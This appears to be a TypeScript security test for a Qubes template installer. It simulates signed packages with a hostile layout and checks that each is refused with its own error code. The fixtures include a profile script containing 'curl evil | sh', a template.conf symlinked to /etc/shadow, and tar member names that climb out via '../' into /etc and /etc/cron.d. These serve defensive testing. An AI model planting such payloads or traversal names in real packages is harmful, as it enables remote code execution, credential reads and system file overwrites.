/**
 * Attack: a malicious packager who signs correctly ships a package no Qubes builder makes: files
 * outside /var/lib/qubes/vm-templates/NAME/ (in /etc/profile.d, /usr/bin, the installed
 * template's directory), an appmenu list that is a FIFO, an extra root.img.part.x, a
 * template.conf that is a symlink, or a root image tar whose member is `../../etc/x` or a GNU
 * long name climbing out. The signature holds, so only the layout check stops it: each is
 * refused with its own code and exit 1, no VM is created, the installed template's root volume
 * stays byte-identical. The upgrades refused at the image carry the builder's layout, which the
 * header check lets through. Symlinked directories, `/etc/x` members and the other cases are
 * unit-tested (test/orchestrator/verify/template-layout.test.ts, image-stream.test.ts).
 */
import type { ScenarioTemplate } from '../../sim/scenario.ts';
import { defineAttack, MiB, smallTemplate } from '../helpers/kit/index.ts';

const VICTIM = 'fedora-victim';
const TEMPLATES = '/var/lib/qubes/vm-templates';

/** A package for a new template name: refused at its header, so a tiny image does. */
function hostile(name: string, mutations: NonNullable<ScenarioTemplate['mutations']>): ScenarioTemplate {
  return smallTemplate(name, '4.2.0', '1', name, {
    image: { size: MiB, extents: [{ offset: 0, length: 4096, seed: name }] },
    mutations,
  });
}

/** An upgrade of the installed victim, release `release`. */
function victim(release: string, extra: Partial<ScenarioTemplate>): ScenarioTemplate {
  return smallTemplate(VICTIM, '4.2.0', release, `victim-${release}`, extra);
}

/** One run each (two disposables per run): the codes' finer cases are in the unit tests. */
defineAttack(
  'tmpl-sec-layout-',
  {
    templates: [
      hostile('evil-outside', {
        extraFiles: [
          { path: '/etc/profile.d/evil.sh', kind: 'file', content: 'curl evil | sh\n' },
          { path: '/usr/bin/evil', kind: 'file', perms: 0o755, content: '#!/bin/sh\n' },
          { path: `${TEMPLATES}/${VICTIM}/root.img.part.00`, kind: 'file', content: 'evil' },
        ],
      }),
      hostile('evil-fifo', { replacedFiles: { 'whitelisted-appmenus.list': { kind: 'fifo' } } }),
      hostile('evil-part', {
        extraFiles: [{ path: `${TEMPLATES}/evil-part/root.img.part.x`, kind: 'file', content: 'x' }],
      }),
      victim('2', {
        mutations: { replacedFiles: { 'template.conf': { kind: 'symlink', linkTo: '/etc/shadow' } } },
      }),
      victim('3', { tarMemberName: '../../etc/x' }),
      victim('4', { tarMemberName: `${'../'.repeat(40)}etc/cron.d/root.img` }),
    ],
    planted: smallTemplate(VICTIM, '4.2.0', '1', 'planted'),
    setupTimeoutMs: 300_000,
  },
  [
    {
      name: "files in /etc/profile.d, /usr/bin and the installed template's directory: refused",
      argv: ['install', 'evil-outside', '--skip-start'],
      code: 'template.layout.outside',
    },
    {
      name: 'an appmenu list that is a FIFO: refused',
      argv: ['install', 'evil-fifo', '--skip-start'],
      code: 'template.layout.file-type',
    },
    {
      name: 'an extra root.img.part.x: refused',
      argv: ['install', 'evil-part', '--skip-start'],
      code: 'package.parts',
    },
    {
      name: 'an upgrade whose template.conf is a symlink: refused, the root volume stays',
      argv: ['upgrade', '--yes', `${VICTIM}-4.2.0-2`, '--skip-start'],
      code: 'template.layout.file-type',
    },
    {
      name: "an upgrade whose image member is '../../etc/x': refused, the root volume stays",
      argv: ['upgrade', '--yes', `${VICTIM}-4.2.0-3`, '--skip-start'],
      code: 'template.image-name',
    },
    {
      name: 'an upgrade whose image member is a GNU long name climbing out: refused, the root volume stays',
      argv: ['upgrade', '--yes', `${VICTIM}-4.2.0-4`, '--skip-start'],
      code: 'template.image-name',
    },
  ],
);
